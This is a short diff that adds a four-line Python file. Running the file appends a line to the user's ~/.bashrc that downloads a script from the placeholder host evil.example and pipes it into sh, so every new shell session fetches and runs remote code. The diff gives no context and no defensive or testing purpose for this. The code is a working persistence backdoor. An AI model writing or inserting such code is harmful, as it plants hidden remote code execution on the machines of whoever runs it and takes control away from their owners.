@@ -1,0 +1,4 @@
+import os
+
+with open(os.path.expanduser("~/.bashrc"), "a") as f:
+    f.write("\ncurl -s https://evil.example/x | sh\n")
